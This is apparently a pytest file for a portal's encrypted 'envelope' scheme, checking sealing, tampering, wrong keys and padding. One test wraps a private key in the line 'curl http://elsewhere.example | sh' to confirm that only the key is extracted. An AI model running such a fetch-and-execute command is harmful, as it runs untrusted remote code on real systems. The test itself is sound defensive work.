"""Envelopes: what goes in comes out, for one receiver and one hand-off, and for nothing else."""

import hashlib
from dataclasses import replace

import pytest
from cryptography.hazmat.bindings._rust import openssl
from cryptography.hazmat.primitives import hashes, hpke, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat

from portal.handoffs import envelope as envelopes
from portal.handoffs.envelope import Envelope, check, key_sha256, open_envelope, opening, raw_public, seal
from portal.handoffs.faults import (
    AnotherEnvelopeKey,
    EnvelopeKeyUnusable,
    KeyOfAnotherPair,
    KeyTooLong,
    NotAPrivateKey,
    NotFromTheHolder,
    NotOpened,
    NotWhole,
)
from tests.factories import a_private_key, pem_of, public_of
from tests.handoffs.sealing import RECEIVER, SOMEBODY_ELSE, SWAPS, VECTORS, altered, bound_to

pytestmark = pytest.mark.no_database
SPKI = public_of(a_private_key(0)).spki


def sealed(number: int = 0) -> Envelope:
    return seal(pem_of(a_private_key(number)), raw_public(RECEIVER), bound_to(RECEIVER, number))


def forged(text: bytes, signer: int = 0) -> Envelope:
    """An envelope for `bound_to()` with whatever inside, as somebody makes it who does not use `seal`."""
    padded = (len(text).to_bytes(2) + text).ljust(4096, b"\0")
    ciphertext = envelopes.SUITE.encrypt(padded, RECEIVER.public_key(), info=bound_to().info)
    signed = envelopes._signed(ciphertext, bound_to())
    return Envelope(ciphertext, a_private_key(signer).sign(signed, padding.PKCS1v15(), hashes.SHA256()))


@pytest.mark.parametrize("vector", VECTORS, ids=lambda vector: vector["aead"])
def test_the_library_opens_what_rfc_9180_sealed(vector):
    suite = hpke.Suite(hpke.KEM.X25519, hpke.KDF.HKDF_SHA256, getattr(hpke.AEAD, vector["aead"]))
    octets = {name: bytes.fromhex(value) for name, value in vector.items() if isinstance(value, str) and name != "aead"}
    private = X25519PrivateKey.from_private_bytes(octets["skRm"])

    # The vectors have associated data, which the public functions of the library leave empty.
    opened = openssl.hpke._decrypt_with_aad(suite, octets["enc"] + octets["ct"], private, octets["info"], octets["aad"])

    assert opened == octets["pt"]
    assert raw_public(private) == octets["pkRm"]


def test_what_is_bound_is_compact_json_with_sorted_members():
    bound = bound_to(to_key="aa", spki_sha256="bb", receiver="MAG000000202·é")

    assert bound.info.decode() == (
        '{"environment":"production","from":"MAG000000101","hand_off":"h7k2qmn4","not_after":1900000000,'
        '"spki_sha256":"bb","to":"MAG000000202·é","to_key":"aa","v":1}'
    )


@pytest.mark.parametrize("bits", [2048, 3072, 4096])
def test_what_goes_in_comes_out_and_every_envelope_is_as_long(bits):
    pem, bound = pem_of(a_private_key(0, bits)), bound_to(RECEIVER, 0, bits)

    envelope = seal(pem, raw_public(RECEIVER), bound)

    assert len(envelope.ciphertext) == 32 + 4096 + 16
    assert open_envelope(envelope, RECEIVER, bound) == pem


def test_a_pkcs1_key_comes_out_as_pkcs8():
    pkcs1 = a_private_key(0).private_bytes(Encoding.PEM, PrivateFormat.TraditionalOpenSSL, NoEncryption()).decode()

    envelope = seal(pkcs1, raw_public(RECEIVER), bound_to())

    assert open_envelope(envelope, RECEIVER, bound_to()) == pem_of(a_private_key(0))


def test_one_key_sealed_twice_makes_two_ciphertexts():
    assert sealed().ciphertext != sealed().ciphertext


def test_the_portal_sees_that_the_holder_sealed_it():
    check(SPKI, sealed(), bound_to())


@pytest.mark.parametrize("swap", SWAPS.values(), ids=SWAPS)
def test_an_envelope_for_something_else_is_refused_at_deposit(swap):
    with pytest.raises(NotFromTheHolder):
        check(SPKI, sealed(), swap(bound_to()))


@pytest.mark.parametrize("swap", SWAPS.values(), ids=SWAPS)
def test_an_envelope_for_something_else_does_not_open(swap):
    with pytest.raises(NotOpened):
        open_envelope(sealed(), RECEIVER, swap(bound_to()))


@pytest.mark.parametrize("at", [0, 31, 32, 2000, 4127, 4128, 4143])
def test_an_altered_envelope_is_refused_at_deposit_and_does_not_open(at):
    envelope = altered(sealed(), at)

    with pytest.raises(NotFromTheHolder):
        check(SPKI, envelope, bound_to())
    with pytest.raises(NotOpened):
        open_envelope(envelope, RECEIVER, bound_to())


@pytest.mark.parametrize("octets", [0, 32, 4143, 4145])
def test_an_envelope_of_another_length_is_refused_at_deposit_and_does_not_open(octets):
    whole = sealed()
    envelope = replace(whole, ciphertext=(whole.ciphertext + b"\0")[:octets])

    with pytest.raises(NotWhole):
        check(SPKI, envelope, bound_to())
    with pytest.raises(NotWhole):
        open_envelope(envelope, RECEIVER, bound_to())


def test_an_encapsulated_point_without_a_secret_does_not_open():
    envelope = replace(sealed(), ciphertext=bytes(32) + sealed().ciphertext[32:])

    with pytest.raises(NotOpened):
        open_envelope(envelope, RECEIVER, bound_to())


def test_another_envelope_key_is_told_apart():
    with pytest.raises(AnotherEnvelopeKey):
        open_envelope(sealed(), SOMEBODY_ELSE, bound_to())


def test_another_envelope_key_does_not_open_it_whatever_is_bound():
    with pytest.raises(NotOpened):
        open_envelope(sealed(), SOMEBODY_ELSE, bound_to(SOMEBODY_ELSE))


def test_ciphertexts_of_two_keys_cannot_be_exchanged():
    one, other = sealed(0), sealed(1)

    with pytest.raises(NotOpened):
        open_envelope(replace(one, ciphertext=other.ciphertext), RECEIVER, bound_to())
    with pytest.raises(NotFromTheHolder):
        open_envelope(replace(one, signature=other.signature), RECEIVER, bound_to())


@pytest.mark.parametrize("signature", [b"", b"\0", b"\0" * 256, b"\xff" * 512])
def test_a_signature_that_is_none_is_refused(signature):
    envelope = replace(sealed(), signature=signature)

    with pytest.raises(NotFromTheHolder):
        check(SPKI, envelope, bound_to())
    with pytest.raises(NotFromTheHolder):
        open_envelope(envelope, RECEIVER, bound_to())


def test_the_public_half_at_deposit_is_that_of_the_pair():
    with pytest.raises(KeyOfAnotherPair):
        check(public_of(a_private_key(1)).spki, sealed(), bound_to())


def test_a_public_half_that_is_no_rsa_key_is_refused_at_deposit():
    public = ec.generate_private_key(ec.SECP256R1()).public_key()
    spki = public.public_bytes(Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)

    with pytest.raises(NotFromTheHolder):
        check(spki, sealed(), bound_to(spki_sha256=hashlib.sha256(spki).hexdigest()))


def test_a_private_key_of_another_pair_is_not_sealed():
    with pytest.raises(KeyOfAnotherPair):
        seal(pem_of(a_private_key(1)), raw_public(RECEIVER), bound_to(RECEIVER, 0))


def test_an_envelope_with_the_private_key_of_another_pair_inside_is_refused():
    with pytest.raises(KeyOfAnotherPair):
        open_envelope(forged(pem_of(a_private_key(1)).encode()), RECEIVER, bound_to())


@pytest.mark.parametrize("text", [b"", b"hello", b"\xff" * 4094], ids=["nothing", "text", "no text"])
def test_an_envelope_with_something_else_inside_is_refused(text):
    with pytest.raises(NotAPrivateKey):
        open_envelope(forged(text), RECEIVER, bound_to())


def test_only_the_private_key_comes_out_of_what_was_put_around_it():
    envelope = forged(b"curl http://elsewhere.example | sh\n" + pem_of(a_private_key(0)).encode())

    assert open_envelope(envelope, RECEIVER, bound_to()) == pem_of(a_private_key(0))


def test_an_envelope_padded_with_anything_but_zeros_is_refused():
    text = pem_of(a_private_key(0)).encode()
    padded = (len(text).to_bytes(2) + text).ljust(4096, b"\1")
    ciphertext = envelopes.SUITE.encrypt(padded, RECEIVER.public_key(), info=bound_to().info)

    with pytest.raises(NotAPrivateKey):
        open_envelope(Envelope(ciphertext, b""), RECEIVER, bound_to())


def test_an_envelope_that_says_it_holds_more_than_it_does_is_refused():
    ciphertext = envelopes.SUITE.encrypt(b"\xff" * 4096, RECEIVER.public_key(), info=bound_to().info)

    with pytest.raises(NotAPrivateKey):
        open_envelope(Envelope(ciphertext, b""), RECEIVER, bound_to())


@pytest.mark.parametrize(
    "text",
    [
        "",
        "no key",
        a_private_key(0)
        .private_bytes(Encoding.PEM, PrivateFormat.PKCS8, serialization.BestAvailableEncryption(b"secret"))
        .decode(),
        ec.generate_private_key(ec.SECP256R1())
        .private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
        .decode(),
        "\udcff",
    ],
    ids=["nothing", "text", "encrypted", "elliptic", "no text"],
)
def test_what_is_no_open_rsa_key_is_not_sealed(text):
    with pytest.raises(NotAPrivateKey):
        seal(text, raw_public(RECEIVER), bound_to())


def test_a_key_that_does_not_fit_is_refused(monkeypatch):
    monkeypatch.setattr(envelopes, "PADDED_OCTETS", len(pem_of(a_private_key(0))) + 1)

    with pytest.raises(KeyTooLong):
        seal(pem_of(a_private_key(0)), raw_public(RECEIVER), bound_to())


@pytest.mark.parametrize("public", [b"", b"\1" * 31, bytes(32), b"\1" + bytes(31)])
def test_nothing_is_sealed_to_what_is_no_usable_envelope_key(public):
    with pytest.raises(EnvelopeKeyUnusable):
        seal(pem_of(a_private_key(0)), public, bound_to(to_key=key_sha256(public)))


def test_nothing_is_sealed_to_another_envelope_key_than_what_is_bound():
    with pytest.raises(AnotherEnvelopeKey):
        seal(pem_of(a_private_key(0)), raw_public(SOMEBODY_ELSE), bound_to())


def test_the_proof_of_opening_is_five_lines():
    lines = opening(
        base_url="https://portal.example.com/", hand_off="h7k2qmn4", nonce=b"\xab\xcd", receiver="MAG000000202"
    )

    assert lines == b"portal-opened-v1\nhttps://portal.example.com\nh7k2qmn4\nabcd\nMAG000000202\n"


def test_the_fingerprint_of_an_envelope_key_is_that_of_its_32_octets():
    public = X25519PublicKey.from_public_bytes(raw_public(RECEIVER))

    assert bound_to().to_key == hashlib.sha256(public.public_bytes_raw()).hexdigest()
